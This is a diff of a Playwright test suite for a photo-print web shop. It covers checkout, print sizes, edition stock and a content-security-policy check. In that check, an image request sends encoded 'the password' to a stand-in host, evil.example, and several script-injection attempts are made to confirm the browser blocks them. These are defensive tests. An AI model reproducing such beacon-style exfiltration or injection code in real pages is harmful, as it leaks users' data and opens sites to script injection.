@@ -1,182 +1,286 @@
 import type { Page } from '@playwright/test';
+import { tries } from '../../long.ts';
 import { samplePhotos } from '../content.ts';
 import { cartLine, expect, test, Visitor } from './visitor.ts';
 
-// With motion, as for most visitors.
-test.use({ contextOptions: { reducedMotion: 'no-preference' } });
+test.describe('a purchase', () => {
+  // With motion, as for most visitors.
+  test.use({ contextOptions: { reducedMotion: 'no-preference' } });
 
-const TRAM = 'Last tram, second stop';
+  const TRAM = 'Last tram, second stop';
 
-const payPage = (visitor: Visitor) => ({
-  pay: visitor.page.getByRole('button', { name: 'Pay', exact: true }),
-  cancel: visitor.page.getByRole('button', { name: 'Cancel', exact: true }),
-  decline: visitor.page.getByRole('button', { name: 'Decline', exact: true }),
-});
-
-async function bringToPayment(visitor: Visitor, size: 'A4' | 'A3' = 'A4') {
-  await visitor.open('/#photos/night-shift');
-  await visitor.photo(TRAM).click();
-  await visitor.button('Buy print').click();
-  await visitor.button('Close').click();
-  const checkout = await visitor.openCheckout();
-  await checkout.getByRole('combobox', { name: 'Size' }).selectOption(size);
-  await visitor.payButton().click();
-  await expect(payPage(visitor).pay).toBeVisible();
-  return payPage(visitor);
-}
-
-test('Pay for an A3 print leads to the thank-you page and empties the cart, in other tabs, too', async ({
-  context,
-  page,
-  visitor,
-}) => {
-  const { pay } = await bringToPayment(visitor, 'A3');
-  expect(new URL(page.url()).origin).not.toBe(visitor.site);
-  await expect(page.getByRole('main')).toContainText(TRAM);
-  await expect(page.getByRole('main')).toContainText('A3');
-  await expect(page.getByRole('main')).toContainText('€56.00');
-  await expect(page.getByRole('main')).toContainText('€60.99');
-  const other = new Visitor(await context.newPage(), visitor.site);
-  await other.page.goto(`${visitor.site}/`);
-  await expect(other.cartButton(1)).toBeVisible();
-  await pay.click();
-  await expect(page).toHaveURL(/\/success\?session_id=cs_test_\w+$/);
-  const session = new URL(page.url()).searchParams.get('session_id') ?? '';
-  await expect(page.getByText(session, { exact: true })).toBeVisible();
-  await expect(page.getByText('incl. VAT, plus shipping').filter({ visible: true })).toHaveCount(1);
-  await expect(other.cartButton(0)).toBeVisible();
-  await page.getByRole('link', { name: 'Back to home' }).click();
-  await expect(visitor.cartButton(0)).toBeVisible();
-});
-
-test('the size chosen beside a work travels to the cart, the checkout and the payment page', async ({
-  page,
-  visitor,
-}) => {
-  const NAME = 'The first proof, kept for luck';
-  await visitor.open('/photos/first-proof-kept-for-luck-g7bw/');
-  const size = page.getByRole('group', { name: 'Size' });
-  const a3 = size.getByRole('radio', { name: 'A3 €29.99' });
-  await expect(size.getByRole('radio', { name: 'A4 €22.00' })).toBeChecked();
-  await expect(page.getByText('Sheet 21 × 29.7 cm')).toBeVisible();
-  await a3.check();
-  await expect(page.getByText('Sheet 29.7 × 42 cm')).toBeVisible();
-  await expect(page.getByText('Sheet 21 × 29.7 cm')).toBeHidden();
-  await visitor.button('Buy print').click();
-  await expect(visitor.toast(`${NAME} added to cart`)).toBeVisible();
-  await visitor.button('Buy print').click();
-  await expect(visitor.toast(`${NAME} is already in the cart`)).toHaveText(/in the cart$/);
-  await size.getByRole('radio', { name: 'A4' }).check();
-  await visitor.button('Buy print').click();
-  await expect(visitor.toast(`${NAME} is already in the cart, now in A4`)).toBeVisible();
-  await a3.check();
-  await visitor.button('Buy print').click();
-  await expect(visitor.cartButton(1)).toBeVisible();
-  const line = visitor.lines(await visitor.openCart(), NAME);
-  await expect(line).toContainText('A3, €29.99* per print');
-  await visitor.button('Proceed to Checkout').click();
-  await expect(visitor.checkout().getByRole('combobox', { name: 'Size' })).toHaveValue('A3');
-  await expect(visitor.checkout()).toContainText('€34.98');
-  await visitor.payButton().click();
-  await expect(page.getByRole('main')).toContainText('A3');
-  await expect(page.getByRole('main')).toContainText('€34.98');
-});
-
-/** Which prints can be had, as the page of a work tells search engines. */
-async function availabilities(page: Page): Promise<unknown[]> {
-  const text = (await page.locator('script[type="application/ld+json"]').textContent()) ?? '';
-  const { '@graph': nodes } = JSON.parse(text) as { '@graph': { offers?: { availability?: string }[] }[] };
-  return nodes.flatMap(({ offers = [] }) => offers.map(({ availability }) => availability));
-}
-
-test('a numbered edition says what is left wherever it is sold, and is not sold once nothing is', async ({
-  page,
-  visitor,
-}) => {
-  const NAME = 'A whirlpool in no hurry at all';
-  const left = page.getByText(/^Edition of 30, \d+ left$/).filter({ visible: true });
-  const soldOut = page.getByText('Edition of 30, sold out').filter({ visible: true });
-  await visitor.open('/photos/whirlpool-in-no-hurry-x81d/');
-  await expect(left).toBeVisible();
-  expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/LimitedAvailability'));
-  await visitor.button('Buy print').click();
-  await expect(visitor.toast(`${NAME} added to cart`)).toBeVisible();
-  await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText(/Edition of 30, \d+ left/);
-  const json = { size: 30, left: 0 };
-  await page.route('**/api/editions/*', (route) => route.fulfill({ json }));
-  await visitor.button('Close').click();
-  await expect(visitor.cart()).toBeHidden();
-  await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText('Edition of 30, sold out');
-  await page.reload();
-  await expect(soldOut).toBeVisible();
-  await expect(visitor.button('Buy print')).toBeHidden();
-  expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/SoldOut'));
-  await expect(page.getByRole('img', { name: NAME }).first()).toBeVisible();
-  await visitor.page.goto(`${visitor.site}/#photos/undercurrents/whirlpool-in-no-hurry-x81d`);
-  await expect(page.getByRole('dialog', { name: NAME })).toContainText('Edition of 30, sold out');
-  await expect(visitor.button('Buy print')).toBeHidden();
-  await visitor.button('Next photo').click();
-  await expect(visitor.button('Buy print')).toBeVisible();
-});
-
-test('nothing is lost by Back, by Cancel or by a declined card, and paying can be tried again', async ({
-  page,
-  visitor,
-}) => {
-  const { pay, cancel, decline } = await bringToPayment(visitor, 'A3');
-  await test.step('Back from the payment page', async () => {
-    await page.goBack();
-    await expect(visitor.cartButton(1)).toBeAttached();
-    if (!(await visitor.checkout().isVisible())) await visitor.openCheckout();
-    await visitor.payButton().click();
-    await expect(pay).toBeVisible();
+  const payPage = (visitor: Visitor) => ({
+    pay: visitor.page.getByRole('button', { name: 'Pay', exact: true }),
+    cancel: visitor.page.getByRole('button', { name: 'Cancel', exact: true }),
+    decline: visitor.page.getByRole('button', { name: 'Decline', exact: true }),
   });
-  await test.step('Cancel leads back to the open cart', async () => {
-    await cancel.click();
-    await expect(visitor.cart()).toBeVisible();
-    await expect(page).toHaveURL(`${visitor.site}/`);
+
+  async function bringToPayment(visitor: Visitor, size: 'A4' | 'A3' = 'A4') {
+    await visitor.open('/#photos/night-shift');
+    await visitor.photo(TRAM).click();
+    await visitor.button('Buy print').click();
+    await visitor.button('Close').click();
+    const checkout = await visitor.openCheckout();
+    await checkout.getByRole('combobox', { name: 'Size' }).selectOption(size);
+    await visitor.payButton().click();
+    await expect(payPage(visitor).pay).toBeVisible();
+    return payPage(visitor);
+  }
+
+  test('Pay for an A3 print leads to the thank-you page and empties the cart, in other tabs, too', async ({
+    context,
+    page,
+    visitor,
+  }) => {
+    const { pay } = await bringToPayment(visitor, 'A3');
+    expect(new URL(page.url()).origin).not.toBe(visitor.site);
+    await expect(page.getByRole('main')).toContainText(TRAM);
+    await expect(page.getByRole('main')).toContainText('A3');
+    await expect(page.getByRole('main')).toContainText('€56.00');
+    await expect(page.getByRole('main')).toContainText('€60.99');
+    const other = new Visitor(await context.newPage(), visitor.site);
+    await other.page.goto(`${visitor.site}/`);
+    await expect(other.cartButton(1)).toBeVisible();
+    await pay.click();
+    await expect(page).toHaveURL(/\/success\?session_id=cs_test_\w+$/);
+    const session = new URL(page.url()).searchParams.get('session_id') ?? '';
+    await expect(page.getByText(session, { exact: true })).toBeVisible();
+    await expect(page.getByText('incl. VAT, plus shipping').filter({ visible: true })).toHaveCount(1);
+    await expect(other.cartButton(0)).toBeVisible();
+    await page.getByRole('link', { name: 'Back to home' }).click();
+    await expect(visitor.cartButton(0)).toBeVisible();
+  });
+
+  test('the size chosen beside a work travels to the cart, the checkout and the payment page', async ({
+    page,
+    visitor,
+  }) => {
+    const NAME = 'The first proof, kept for luck';
+    await visitor.open('/photos/first-proof-kept-for-luck-g7bw/');
+    const size = page.getByRole('group', { name: 'Size' });
+    const a3 = size.getByRole('radio', { name: 'A3 €29.99' });
+    await expect(size.getByRole('radio', { name: 'A4 €22.00' })).toBeChecked();
+    await expect(page.getByText('Sheet 21 × 29.7 cm')).toBeVisible();
+    await a3.check();
+    await expect(page.getByText('Sheet 29.7 × 42 cm')).toBeVisible();
+    await expect(page.getByText('Sheet 21 × 29.7 cm')).toBeHidden();
+    await visitor.button('Buy print').click();
+    await expect(visitor.toast(`${NAME} added to cart`)).toBeVisible();
+    await visitor.button('Buy print').click();
+    await expect(visitor.toast(`${NAME} is already in the cart`)).toHaveText(/in the cart$/);
+    await size.getByRole('radio', { name: 'A4' }).check();
+    await visitor.button('Buy print').click();
+    await expect(visitor.toast(`${NAME} is already in the cart, now in A4`)).toBeVisible();
+    await a3.check();
+    await visitor.button('Buy print').click();
+    await expect(visitor.cartButton(1)).toBeVisible();
+    const line = visitor.lines(await visitor.openCart(), NAME);
+    await expect(line).toContainText('A3, €29.99* per print');
     await visitor.button('Proceed to Checkout').click();
     await expect(visitor.checkout().getByRole('combobox', { name: 'Size' })).toHaveValue('A3');
+    await expect(visitor.checkout()).toContainText('€34.98');
     await visitor.payButton().click();
+    await expect(page.getByRole('main')).toContainText('A3');
+    await expect(page.getByRole('main')).toContainText('€34.98');
   });
-  await test.step('a declined card is reported', async () => {
-    await decline.click();
-    await expect(page.getByRole('alert')).toHaveText(/declined/);
-    await pay.click();
-    await expect(page.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
+
+  /** Which prints can be had, as the page of a work tells search engines. */
+  async function availabilities(page: Page): Promise<unknown[]> {
+    const text = (await page.locator('script[type="application/ld+json"]').textContent()) ?? '';
+    const { '@graph': nodes } = JSON.parse(text) as { '@graph': { offers?: { availability?: string }[] }[] };
+    return nodes.flatMap(({ offers = [] }) => offers.map(({ availability }) => availability));
+  }
+
+  test('a numbered edition says what is left wherever it is sold, and is not sold once nothing is', async ({
+    page,
+    visitor,
+  }) => {
+    const NAME = 'A whirlpool in no hurry at all';
+    const left = page.getByText(/^Edition of 30, \d+ left$/).filter({ visible: true });
+    const soldOut = page.getByText('Edition of 30, sold out').filter({ visible: true });
+    await visitor.open('/photos/whirlpool-in-no-hurry-x81d/');
+    await expect(left).toBeVisible();
+    expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/LimitedAvailability'));
+    await visitor.button('Buy print').click();
+    await expect(visitor.toast(`${NAME} added to cart`)).toBeVisible();
+    await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText(/Edition of 30, \d+ left/);
+    const json = { size: 30, left: 0 };
+    await page.route('**/api/editions/*', (route) => route.fulfill({ json }));
+    await visitor.button('Close').click();
+    await expect(visitor.cart()).toBeHidden();
+    await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText('Edition of 30, sold out');
+    await page.reload();
+    await expect(soldOut).toBeVisible();
+    await expect(visitor.button('Buy print')).toBeHidden();
+    expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/SoldOut'));
+    await expect(page.getByRole('img', { name: NAME }).first()).toBeVisible();
+    await visitor.page.goto(`${visitor.site}/#photos/undercurrents/whirlpool-in-no-hurry-x81d`);
+    await expect(page.getByRole('dialog', { name: NAME })).toContainText('Edition of 30, sold out');
+    await expect(visitor.button('Buy print')).toBeHidden();
+    await visitor.button('Next photo').click();
+    await expect(visitor.button('Buy print')).toBeVisible();
+  });
+
+  test('nothing is lost by Back, by Cancel or by a declined card, and paying can be tried again', async ({
+    page,
+    visitor,
+  }) => {
+    const { pay, cancel, decline } = await bringToPayment(visitor, 'A3');
+    await test.step('Back from the payment page', async () => {
+      await page.goBack();
+      await expect(visitor.cartButton(1)).toBeAttached();
+      if (!(await visitor.checkout().isVisible())) await visitor.openCheckout();
+      await visitor.payButton().click();
+      await expect(pay).toBeVisible();
+    });
+    await test.step('Cancel leads back to the open cart', async () => {
+      await cancel.click();
+      await expect(visitor.cart()).toBeVisible();
+      await expect(page).toHaveURL(`${visitor.site}/`);
+      await visitor.button('Proceed to Checkout').click();
+      await expect(visitor.checkout().getByRole('combobox', { name: 'Size' })).toHaveValue('A3');
+      await visitor.payButton().click();
+    });
+    await test.step('a declined card is reported', async () => {
+      await decline.click();
+      await expect(page.getByRole('alert')).toHaveText(/declined/);
+      await pay.click();
+      await expect(page.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
+    });
+  });
+
+  test.describe('a price that has changed in the meantime', () => {
+    test.use({ allowConsole: [/status of 409/] });
+
+    test('is refused with a message, the cart shows the new price, and the next try is accepted', async ({
+      page,
+      own,
+    }) => {
+      const visitor = new Visitor(page, own.url);
+      // A list that comes late would bring the new price before the order does.
+      let isRefused = false;
+      page.on('response', (answer) => {
+        isRefused ||= answer.status() === 409;
+      });
+      const list = await (await fetch(`${own.url}/api/photos`)).json();
+      await page.route('**/api/photos*', (route) =>
+        isRefused ? route.continue() : route.fulfill({ json: list }),
+      );
+      await visitor.open('/', { photoCart: JSON.stringify([await cartLine(TRAM)]) });
+      const checkout = await visitor.openCheckout();
+      const { id, ...photo } = (await samplePhotos()).find(({ description }) => description.en === TRAM) ?? {
+        id: '',
+      };
+      await own.content.change({ [`content/photos/${id}.json`]: { ...photo, price_a4: 45 } });
+      await visitor.payButton().click();
+      await expect(checkout.getByRole('alert')).toHaveText(
+        `The price of "${TRAM}" (A4) has changed to €45.00. Please check your cart and try again.`,
+      );
+      await expect(visitor.lines(checkout, TRAM)).toContainText('€45.00');
+      await expect(checkout).toContainText('€49.99');
+      await visitor.payButton().click();
+      await expect(page.getByRole('main')).toContainText('€49.99');
+    });
   });
 });
 
-test.describe('a price that has changed in the meantime', () => {
-  test.use({ allowConsole: [/status of 409/] });
+test.describe('a whole visit', () => {
+  /** The policy for pictures: the browser loads them from this site only, whatever content names. */
+  const IMG_SRC = /img-src 'self' data: blob:(;|$)/;
 
-  test('is refused with a message, the cart shows the new price, and the next try is accepted', async ({
+  test('a visit to every section, project and dialog loads nothing from other hosts', async ({
     page,
-    own,
+    visitor,
+    externalRequests,
   }) => {
-    const visitor = new Visitor(page, own.url);
-    // A list that comes late would bring the new price before the order does.
-    let isRefused = false;
-    page.on('response', (answer) => {
-      isRefused ||= answer.status() === 409;
+    await page.goto(visitor.site);
+    await page.getByRole('button', { name: 'English' }).click();
+    await visitor.section('photos').click();
+    const covers = page.locator('.covers').getByRole('button').or(page.locator('.covers').getByRole('link'));
+    const all = await covers.count();
+    expect(all).toBeGreaterThan(3);
+    const projects = tries(all, 2);
+    for (let n = 0; n < projects; n += 1) {
+      await covers.nth(n).click();
+      await page
+        .getByRole('main')
+        .locator('.photo')
+        .filter({ visible: true })
+        .last()
+        .scrollIntoViewIfNeeded();
+      if (n < projects - 1) await visitor.back().click();
+    }
+    await page.getByRole('main').locator('.photo').filter({ visible: true }).first().click();
+    await expect(page.getByRole('dialog').getByRole('img')).toBeVisible();
+    await visitor.button(visitor.words.buy).click();
+    await visitor.button(visitor.words.close).click();
+    await visitor.openCart();
+    await page.keyboard.press('Escape');
+    for (const section of ['videos', 'music'] as const) {
+      await visitor.section(section).click();
+      await page
+        .getByRole('main')
+        .getByRole('listitem')
+        .filter({ visible: true })
+        .last()
+        .scrollIntoViewIfNeeded();
+    }
+    await visitor.languageButton().click();
+    for (const name of ['Vertrag widerrufen', 'Einwilligung für Player', 'Datenschutz'])
+      await page.getByRole('contentinfo').getByRole('link', { name, exact: true }).click();
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Datenschutz');
+    await page.waitForLoadState('networkidle');
+    expect(externalRequests).toEqual([]);
+  });
+
+  test.describe('under the policy of each page', () => {
+    test.use({
+      // One pattern: a list of two would be taken for a value with its options.
+      allowConsole: [
+        /violates the following Content Security Policy directive: "img-src 'self'|This document requires 'Trusted/,
+      ],
     });
-    const list = await (await fetch(`${own.url}/api/photos`)).json();
-    await page.route('**/api/photos*', (route) =>
-      isRefused ? route.continue() : route.fulfill({ json: list }),
-    );
-    await visitor.open('/', { photoCart: JSON.stringify([await cartLine(TRAM)]) });
-    const checkout = await visitor.openCheckout();
-    const { id, ...photo } = (await samplePhotos()).find(({ description }) => description.en === TRAM) ?? {
-      id: '',
-    };
-    await own.content.change({ [`content/photos/${id}.json`]: { ...photo, price_a4: 45 } });
-    await visitor.payButton().click();
-    await expect(checkout.getByRole('alert')).toHaveText(
-      `The price of "${TRAM}" (A4) has changed to €45.00. Please check your cart and try again.`,
-    );
-    await expect(visitor.lines(checkout, TRAM)).toContainText('€45.00');
-    await expect(checkout).toContainText('€49.99');
-    await visitor.payButton().click();
-    await expect(page.getByRole('main')).toContainText('€49.99');
+
+    test('the browser refuses pictures of other hosts, and in the panel text that turns into script', async ({
+      page,
+      visitor,
+    }) => {
+      for (const path of ['/', '/success', '/legal/imprint/', '/admin/']) {
+        const answer = await page.goto(visitor.site + path);
+        expect(answer?.headers()['content-security-policy'], path).toMatch(IMG_SRC);
+        const refused = page.waitForEvent('requestfailed', (request) =>
+          request.url().startsWith('https://evil.example/'),
+        );
+        await page.evaluate(() => {
+          new Image().src = `https://evil.example/?data=${encodeURIComponent('the password')}`;
+        });
+        expect((await refused).failure()?.errorText, path).toMatch(/csp/i);
+      }
+      const ways = await page.evaluate(() => {
+        const place = document.createElement('div');
+        const script = document.createElement('script');
+        const attempts: (() => void)[] = [
+          () => {
+            place.innerHTML = '<img src="x">';
+          },
+          () => place.insertAdjacentHTML('beforeend', '<b>x</b>'),
+          () => {
+            script.text = 'window.attacked = true';
+          },
+          () => {
+            script.src = '/attack.js';
+          },
+        ];
+        return attempts.map((attempt) => {
+          try {
+            attempt();
+            return 'let through';
+          } catch (error) {
+            return (error as Error).name;
+          }
+        });
+      });
+      expect(ways).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
+    });
   });
 });
